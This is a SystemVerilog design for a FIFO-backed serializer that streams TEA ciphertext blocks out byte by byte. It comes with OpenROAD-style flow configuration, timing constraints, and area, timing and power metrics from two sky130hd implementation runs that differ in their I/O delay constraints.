**src/rtl/tea_ct_serializer_pkg.sv**
```systemverilog
// rtl/tea_ct_serializer_pkg.sv - shared widths, state encodings and byte helper
package tea_ct_serializer_pkg;

    localparam int BLOCK_W = 64;
    localparam int BYTE_W  = 8;

    localparam logic [0:0] ST_EMPTY  = 1'b0;
    localparam logic [0:0] ST_STREAM = 1'b1;

    // Byte k of a block, MSB first: k=0 -> [63:56], k=7 -> [7:0].
    function automatic logic [BYTE_W-1:0] block_byte(input logic [BLOCK_W-1:0] w,
                                                     input logic [2:0]         k);
        return w[{~k, 3'b000} +: BYTE_W];
    endfunction

endpackage

```
**src/rtl/tea_ct_serializer_if.sv**
```systemverilog
// rtl/tea_ct_serializer_if.sv - byte stream handshake toward the I/O path
interface tea_ct_serializer_if;
    import tea_ct_serializer_pkg::*;

    logic [BYTE_W-1:0] out_data;
    logic              out_valid;
    logic              out_ready;
    logic              out_last;

    modport master (output out_data, output out_valid, output out_last, input out_ready);
    modport slave  (input out_data, input out_valid, input out_last, output out_ready);

endinterface

```
**src/rtl/tea_block_fifo.sv**
```systemverilog
// rtl/tea_block_fifo.sv - DEPTH x 64-bit register FIFO, push+pop allowed when full
module tea_block_fifo
    import tea_ct_serializer_pkg::*;
#(
    parameter int DEPTH = 4
) (
    input  logic                       clk,
    input  logic                       rst_n,
    input  logic                       push,
    input  logic [BLOCK_W-1:0]         wdata,
    input  logic                       pop,
    output logic [BLOCK_W-1:0]         rdata,
    output logic                       full,
    output logic                       empty,
    output logic [$clog2(DEPTH):0]     level
);

    localparam int PTR_W = $clog2(DEPTH);
    localparam int LVL_W = PTR_W + 1;

    logic [BLOCK_W-1:0] mem [DEPTH];
    logic [PTR_W-1:0]   wr_ptr;
    logic [PTR_W-1:0]   rd_ptr;

    assign full  = (level == LVL_W'(DEPTH));
    assign empty = (level == '0);
    assign rdata = mem[rd_ptr];

    // When full, wr_ptr == rd_ptr, so a push+pop overwrites the entry being freed.
    always_ff @(posedge clk) begin
        if (push) begin
            mem[wr_ptr] <= wdata;
        end
    end

    always_ff @(posedge clk or negedge rst_n) begin
        if (!rst_n) begin
            wr_ptr <= '0;
            rd_ptr <= '0;
            level  <= '0;
        end else begin
            if (push) begin
                wr_ptr <= wr_ptr + PTR_W'(1);
            end
            if (pop) begin
                rd_ptr <= rd_ptr + PTR_W'(1);
            end
            case ({push, pop})
                2'b10:   level <= level + LVL_W'(1);
                2'b01:   level <= level - LVL_W'(1);
                default: level <= level;
            endcase
        end
    end

endmodule

```
**src/rtl/tea_ct_serializer.sv**
```systemverilog
// rtl/tea_ct_serializer.sv - buffers TEA ciphertext blocks and streams them out MSB byte first
module tea_ct_serializer
    import tea_ct_serializer_pkg::*;
#(
    parameter int DEPTH = 4
) (
    input  logic                       clk,
    input  logic                       rst_n,
    input  logic                       in_done,
    input  logic [BLOCK_W-1:0]         in_data,
    tea_ct_serializer_if.master        out,
    output logic [$clog2(DEPTH):0]     level,
    output logic                       overflow,
    input  logic                       clr_overflow
);

    localparam int LVL_W = $clog2(DEPTH) + 1;

    logic [0:0]         state;
    logic [0:0]         state_next;
    logic [2:0]         byte_idx;
    logic [BLOCK_W-1:0] head;
    logic               full;
    logic               empty;
    logic               push;
    logic               pop;
    logic               handshake;
    logic               drop;

    assign handshake = out.out_valid && out.out_ready;
    assign pop       = handshake && (byte_idx == 3'd7) && !empty;
    assign push      = in_done && (!full || pop);
    assign drop      = in_done && full && !pop;

    tea_block_fifo #(
        .DEPTH (DEPTH)
    ) u_fifo (
        .clk   (clk),
        .rst_n (rst_n),
        .push  (push),
        .wdata (in_data),
        .pop   (pop),
        .rdata (head),
        .full  (full),
        .empty (empty),
        .level (level)
    );

    // Outputs derive only from registered state, so out_ready never reaches out_valid.
    assign out.out_valid = (state == ST_STREAM);
    assign out.out_last  = (state == ST_STREAM) && (byte_idx == 3'd7);
    assign out.out_data  = (state == ST_STREAM) ? block_byte(head, byte_idx) : '0;

    always_comb begin
        state_next = state;
        case (state)
            ST_EMPTY: begin
                if (push) begin
                    state_next = ST_STREAM;
                end
            end
            ST_STREAM: begin
                if (pop && (level == LVL_W'(1)) && !push) begin
                    state_next = ST_EMPTY;
                end
            end
            default: state_next = ST_EMPTY;
        endcase
    end

    always_ff @(posedge clk or negedge rst_n) begin
        if (!rst_n) begin
            state    <= ST_EMPTY;
            byte_idx <= 3'd0;
            overflow <= 1'b0;
        end else begin
            state <= state_next;
            // 3-bit counter wraps 7 -> 0 on the popping handshake.
            if (handshake) begin
                byte_idx <= byte_idx + 3'd1;
            end
            if (drop) begin
                overflow <= 1'b1;
            end else if (clr_overflow) begin
                overflow <= 1'b0;
            end
        end
    end

endmodule

```
**src/flat_wrapper.sv**
```systemverilog
// flat-port wrapper written by rule: the top's interface ports become plain ports
module tea_ct_serializer_flat import tea_ct_serializer_pkg::*;
#(
    parameter int DEPTH = 4
)
  (clk, rst_n, in_done, in_data, level, overflow, clr_overflow, out_out_data, out_out_valid, out_out_last, out_out_ready);
  tea_ct_serializer_if out_i ();
  input  logic clk;
  input  logic rst_n;
  input  logic in_done;
  input  logic [BLOCK_W-1:0] in_data;
  output logic [$clog2(DEPTH):0] level;
  output logic overflow;
  input  logic clr_overflow;
  output wire logic [$bits(out_i.out_data)-1:0] out_out_data;
  output wire logic [$bits(out_i.out_valid)-1:0] out_out_valid;
  output wire logic [$bits(out_i.out_last)-1:0] out_out_last;
  input wire logic [$bits(out_i.out_ready)-1:0] out_out_ready;
  assign out_out_data = out_i.out_data;
  assign out_out_valid = out_i.out_valid;
  assign out_out_last = out_i.out_last;
  assign out_i.out_ready = out_out_ready;
  tea_ct_serializer #(.DEPTH(DEPTH)) u_core (.clk(clk), .rst_n(rst_n), .in_done(in_done), .in_data(in_data), .out(out_i), .level(level), .overflow(overflow), .clr_overflow(clr_overflow));
endmodule
```
**config.mk**
```make
export PLATFORM = sky130hd
export DESIGN_NAME = tea_ct_serializer_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/tea_ct_serializer_pkg.sv /design/src/rtl/tea_ct_serializer_if.sv /design/src/rtl/tea_block_fifo.sv /design/src/rtl/tea_ct_serializer.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_CLOCK_PERIOD_IN_PS = 5100
export CORE_MARGIN = 3
export CORE_UTILIZATION = 62
export DETAILED_ROUTE_END_ITERATION = 6
export PLACE_DENSITY = 0.84
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
```
**constraint.sdc**
```tcl
create_clock -name clk -period 5.1 [get_ports clk]
set_input_delay 1.53 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.53 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
```
==> impl_metrics.env, run 1 <==
export IMPL_drc=0
export IMPL_tightest_slew_ps=966
export IMPL_die_x_um=136
export IMPL_fill_cells=815
export IMPL_place_area_um2=11500
export IMPL_syn_cell_area_um2=10400
export IMPL_period_share_pct=91.0
export IMPL_seq_area_um2=7990
export IMPL_min_path_type="register to register"
export IMPL_max_cap_violations=0
export IMPL_clock_latency_ps=510
export IMPL_comb_power_share_pct=37.4
export IMPL_fin_area_um2=12200
export IMPL_switching_share_pct=35.8
export IMPL_critPathKind="register to primary output"
export IMPL_gp_congestion=0.742
export IMPL_die_y_um=136
export IMPL_core_area_um2=16200
export IMPL_crit_family="multiplexers"
export IMPL_max_stage_delay_ps=600
export IMPL_grt_pass1_wl_mm=30.1
export IMPL_drive_above_1_share_pct=24.3
export IMPL_dp_cells=720
export IMPL_io_buffers=82
export IMPL_reg2regPathDepth=6
export IMPL_ir_drop_mv=0.912
export IMPL_clk_pin_slew_worst_paths_ps=60
export IMPL_critPathMaxFanout=45
export IMPL_via_per_inst=6.24
export IMPL_required_ps=3570
export IMPL_wl_per_cell_um=25.5
export IMPL_grt_max_degree=65
export IMPL_crit_chain="buf_12, mux4_2, mux4_2, mux2i_1, nor2_1, buf_4"
export IMPL_yosysTopAreaCell="edfxtp_1"
export IMPL_skew_ps=9.38
export IMPL_avgSynthCellArea_um2=24.2
export IMPL_tns_ps=0
export IMPL_synthTopCellsByArea="edfxtp_1 74%, mux4_2 16%, dfrtp_1 2.9%"
export IMPL_synth_top_area_share_pct=73.7
export IMPL_grt_pass1_vias=5129
export IMPL_root_buffer="clkbuf_16"
export IMPL_syn_to_final_growth_pct=17.0
export IMPL_yosysSeqAreaShare_pct=76.6
export IMPL_fin_cells=763
export IMPL_start_util_pct=64.5
export IMPL_worstHoldPathCells=2
export IMPL_hp_start="u_core/overflow"
export IMPL_slew_headroom_pct=35.4
export IMPL_yosys_warnings=6
export IMPL_slew_violations=0
export IMPL_reg2reg_slack_ps=1680
export IMPL_r2r_start="u_core/byte_idx[1]"
export IMPL_antenna_found_initial=0
export IMPL_grt_setup_unrepaired="false"
export IMPL_routed_wl_mm=19.5
export IMPL_numCtsBuffers=25
export IMPL_grt_usage_pct=22.2
export IMPL_cp_end_kind="primary output"
export IMPL_antenna_left=0
export IMPL_r2r_end="u_core/u_fifo/mem[0][44]"
export IMPL_crit_buf_inv=2
export IMPL_hold_buffers=0
export IMPL_min_period_ps=4640
export IMPL_cp_common_cell="mux4_2"
export IMPL_p_leak_uw=0.00401
export IMPL_cp_arrival_ps=3110
export IMPL_insertedDiodeCount=0
export IMPL_fin_nets=608
export IMPL_syn_num_nets=508
export IMPL_min_to="u_core/overflow"
export IMPL_hold_viol=0
export IMPL_power_density_nw_per_um2=629
export IMPL_post_cts_setup_buffers=0
export IMPL_p_sw_uw=2750
export IMPL_vias=4760
export IMPL_multi_input_area_um2=2250
export IMPL_dp_hpwl_mm=11.0
export IMPL_rows=46
export IMPL_cts_sink_count=268
export IMPL_fmax_mhz=215
export IMPL_power_internal_uw=4920
export IMPL_cts_tree="yes"
export IMPL_status="finished, final reports clean"
export IMPL_h_tree_depth=1
export IMPL_ios=83
export IMPL_seq_power_share_pct=41.4
export IMPL_ys_ff_latch=268
export IMPL_syn_inst=431
export IMPL_synth_cell_type_count=27
export IMPL_grt_ovfl_total=0
export IMPL_cp_slowest_cell="mux4_2"
export IMPL_startpoint_type="register"
export IMPL_cts_buffer_depth=3
export IMPL_fin_util_pct=75.4
export IMPL_power_frac_clock_pct=21.2
export IMPL_first_pass_iters=5
export IMPL_drt_iter0_drc=412
export IMPL_cts_resized=0
export IMPL_die_area_um2=18400
export IMPL_finalSetupViolCount=0
-- cells in the mapped netlist (all sizes together) --
cell type and number:
edfxtp 256, mux4 80, buf 18, dfrtp 12
inv 10, nor2 9, mux2i 8, ha 7
and2 5, nand2 4, xor2 4, o21ai 3
xnor2 3, a21oi 2, mux2 2, a21boi 1
and3 1, clkbuf 1, fa 1, nand3 1
nand4b 1, nor3 1, nor4b 1
-- cell families (layout without fill, tap and decap cells) --
logic type                 Yosys count  after routing  synth area share, %
xor gates and xnor gates             7              7                0.588
AOI/OAI and AO/OA                    6              6                0.312
and+or+nand+nor                     23             23                 1.09
buffers and inverters               29            145                 1.84
adders and majority gates            8              8                 1.03
DFF                                268            268                 76.6
muxes                               90             90                 18.5
-- layout by cell type (no fill, tap or decap), drive strengths merged --
cell	Yosys	layout
clkbuf	1	31
edfxtp	256	256
mux2	2	2
clkinvlp	0	1
xor2	4	4
nor3	1	1
ha	7	7
clkinv	0	11
and2	5	5
nor2	9	9
and3	1	1
a21oi	2	2
nand2	4	4
clkdlybuf4s50	0	73
dfrtp	12	12
nand4b	1	1
buf	18	19
xnor2	3	3
nor4b	1	1
fa	1	1
inv	10	10
mux4	80	80
mux2i	8	8
a21boi	1	1
o21ai	3	3
nand3	1	1
-- power by group through the flow --
stage,logic [uW],registers [uW],clock network [uW]
floorplan,2190,3160,0
global placement,2820,3180,0
detailed placement,2850,3210,0
CTS,2910,3180,1660
global route,3020,3220,1740
finish,2870,3170,1620
-- stage by stage --
stage | total power (uW) | worst slack (ps) | hold slack [ps]
floorplan | 5350 | 901 | 491
global placement | 6000 | 938 | 512
detailed placement | 6060 | 996 | 516
CTS | 7750 | 401 | 527
global route | 7980 | 304 | 571
finish | 7670 | 458 | 523
-- sequential cells by signal, summed over array words and instances (netlist names) --
name and flops:
u_core/u_fifo/level 3, u_core/byte_idx 3, u_core/u_fifo/mem 256, u_core/overflow 1, u_core/out.out_valid 1, u_core/u_fifo/wr_ptr 2
u_core/u_fifo/rd_ptr 2
-- final cells by class --
cell class,instances,area share [%]
Multi-Input combinational cell,134,18.5
Timing Repair Buffer,92,7.68
Clock buffer,31,5.32
Sequential cell,268,65.6
Inverter,10,0.308
Tap cell,216,2.22
Clock inverter,12,0.472
-- metal layers --
layer  track usage (%)  vias up  part of all wire (%)
met5                 0        -                     0
met4              8.29        0                   3.2
met3              4.75       52                   7.8
met2              35.6      212                    51
met1              31.0     2466                    38
li1                  -     2030                     -
-- how the worst max path moves through the flow --
stage / depth (start not counted) / end / startpoint / slack [ps]
after global placement: 6 / out_out_data[2] / u_core/u_fifo/rd_ptr[0] / 940
after floorplan: 3 / u_core/u_fifo/mem[0][0] / out_out_ready / 900
after detailed placement: 6 / out_out_data[2] / u_core/u_fifo/rd_ptr[1] / 1000
after global routing: 6 / out_out_data[2] / u_core/u_fifo/rd_ptr[0] / 300
final: 6 / out_out_data[2] / u_core/u_fifo/rd_ptr[0] / 460
after CTS: 6 / out_out_data[2] / u_core/u_fifo/rd_ptr[0] / 400
-- worst register-to-register path: cells and delay by family (launching register included) --
kind / cells / cell delay [ps]
adder cells (fa/ha/maj): 2 / 460
buffers and inverters: 1 / 440
AO/OA/AOI/OAI: 1 / 720
flip-flops: 1 / 960
AND/OR/NAND/NOR: 2 / 450
No activity file was read; power rests on OpenSTA's default activity.
==> inputs of run 2 (changes only) <==
==> constraint.sdc (replaced) <==
create_clock -name clk -period 5.1 [get_ports clk]
set_input_delay 1.275 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.275 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
==> run 2 against run 1 <==
Effect of this change:
- design area up 2.2%
- die area unchanged
- flip-flop and latch count unchanged
- non-clock buffer count up 4
- worst setup slack better by 220 ps
- sequential power about the same
- critical path type unchanged
- combinational power up 2%
- largest power group unchanged
- hold slack better by 21 ps
- clock skew up 18 ps
- clock power up 27%
- global-route usage up 2.0 points
==> impl_metrics.env, run 2 (synthesized netlist as in run 1, its figures left out) <==
export IMPL_h_tree_depth=1
export IMPL_hp_start="u_core/overflow"
export IMPL_required_ps=3830
export IMPL_p_sw_uw=2850
export IMPL_reg2regPathDepth=6
export IMPL_finalSetupViolCount=0
export IMPL_dp_cells=724
export IMPL_ir_drop_mv=0.872
export IMPL_min_to="u_core/overflow"
export IMPL_r2r_start="u_core/byte_idx[1]"
export IMPL_grt_usage_pct=24.3
export IMPL_insertedDiodeCount=0
export IMPL_largest_register_ffs=256
export IMPL_hold_buffers=0
export IMPL_power_frac_clock_pct=25.1
export IMPL_wl_per_cell_um=27.6
export IMPL_status="finished, final reports clean"
export IMPL_die_area_um2=18400
export IMPL_rows=46
export IMPL_cp_slowest_cell="dfrtp_4"
export IMPL_drt_iter0_drc=427
export IMPL_largest_register="u_core/u_fifo/mem"
export IMPL_startpoint_type="register"
export IMPL_r2r_end="u_core/u_fifo/mem[0][11]"
export IMPL_root_buffer="clkbuf_16"
export IMPL_slew_violations=0
export IMPL_io_buffers=82
export IMPL_die_y_um=136
export IMPL_cp_common_cell="mux4_2"
export IMPL_ios=83
export IMPL_layout_common_cells="256 x edfxtp_1, 73 x clkdlybuf4s50_1, 73 x mux4_2, 27 x clkbuf_16, 17 x buf_4"
export IMPL_power_internal_uw=5300
export IMPL_antenna_found_initial=0
export IMPL_grt_max_degree=51
export IMPL_cts_resized=0
export IMPL_critPathMaxFanout=32
export IMPL_cts_sink_count=268
export IMPL_crit_chain="buf_12, mux4_2, mux4_2, mux2i_1, nor2_1, buf_4"
export IMPL_vias=4862
export IMPL_min_period_ps=4420
export IMPL_tightest_slew_ps=1080
export IMPL_seq_power_share_pct=39.1
export IMPL_tns_ps=0
export IMPL_comb_power_share_pct=35.8
export IMPL_clk_pin_slew_worst_paths_ps=70
export IMPL_syn_to_final_growth_pct=19.5
export IMPL_drive_above_1_share_pct=25.7
export IMPL_cp_end_kind="primary output"
export IMPL_min_path_type="register to register"
export IMPL_top_regs="u_core/u_fifo/mem: 256 flops, u_core/byte_idx: 3 flops, u_core/u_fifo/level: 3 flops"
export IMPL_critPathKind="register to primary output"
export IMPL_first_pass_iters=4
export IMPL_final_common_cell="edfxtp_1"
export IMPL_clock_latency_ps=530
export IMPL_cp_arrival_ps=3150
export IMPL_switching_share_pct=34.9
export IMPL_cts_tree="yes"
export IMPL_core_area_um2=16200
export IMPL_fin_cells=772
export IMPL_setup_ws_ps=678
export IMPL_post_place_ws_ps=1020
export IMPL_p_leak_uw=0.00414
export IMPL_cts_buffer_depth=3
export IMPL_worstHoldPathCells=2
export IMPL_max_stage_delay_ps=560
export IMPL_die_x_um=136
export IMPL_start_util_pct=64.5
export IMPL_numCtsBuffers=26
export IMPL_post_cts_setup_buffers=0
export IMPL_slew_headroom_pct=28.3
export IMPL_grt_pass1_wl_mm=32.6
export IMPL_reg2reg_slack_ps=1340
export IMPL_gp_congestion=0.749
export IMPL_drc=0
export IMPL_antenna_left=0
export IMPL_hold_viol=0
export IMPL_grt_ovfl_total=0
export IMPL_fmax_mhz=226
export IMPL_max_cap_violations=0
export IMPL_fin_nets=613
export IMPL_via_per_inst=6.30
export IMPL_crit_buf_inv=2
export IMPL_power_density_nw_per_um2=654
export IMPL_crit_family="multiplexers"
export IMPL_grt_setup_unrepaired="false"
export IMPL_grt_pass1_vias=5297
export IMPL_period_share_pct=86.7
export IMPL_dp_hpwl_mm=12.0
export IMPL_skew_ps=27.6
export IMPL_routed_wl_mm=21.3
## run 2: layout make-up
type | count | area, um^2
Tap cell | 216 | 270
Fill cell | 792 | 3710
Multi-Input combinational cell | 134 | 2250
Inverter | 10 | 37.5
Timing Repair Buffer | 96 | 978
Sequential cell | 268 | 7990
Clock buffer | 29 | 683
Clock inverter | 19 | 246
## run 2: how the worst max path moves through the flow
stage | from | slack (ps) | depth (start not counted) | to
after floorplan | out_out_ready | 1160 | 3 | u_core/u_fifo/mem[0][0]
after global placement | out_out_ready | 1180 | 5 | u_core/u_fifo/mem[2][41]
after detailed placement | out_out_ready | 1020 | 5 | u_core/u_fifo/mem[2][25]
after CTS | u_core/u_fifo/rd_ptr[0] | 670 | 6 | out_out_data[1]
after global routing | u_core/u_fifo/rd_ptr[0] | 540 | 6 | out_out_data[2]
final | u_core/u_fifo/rd_ptr[0] | 680 | 6 | out_out_data[2]
## run 2: power by group through the flow
stage               combinational, uW  clock, uW  sequential, uW
finish                           2920       2050            3190
global route                     3050       2150            3220
CTS                              2940       2080            3190
detailed placement               2880          0            3210
global placement                 2830          0            3170
floorplan                        2190          0            3160
## run 2: metal layers
layer  track usage, %  wire, um
met2             40.6     11000
met3             4.20      1340
met4             7.11       569
met5                0         0
met1             33.8      8370
## run 2: through the flow
step	cell area [um^2]	hold slack, ps	utilization (%)	power (uW)
6_report	12500	544	77.0	8150
5_1_grt	12500	563	77.0	8420
4_1_cts	12500	547	77.0	8210
3_5_place_dp	11500	535	71.3	6090
3_3_place_gp	11500	508	71.3	6000
2_1_floorplan	10400	491	-	5350
## run 2: tightest hold or removal path: stages (launching register included)
cell and delay (ps):
dfrtp_1 380, inv_1 50, o21ai_0 70
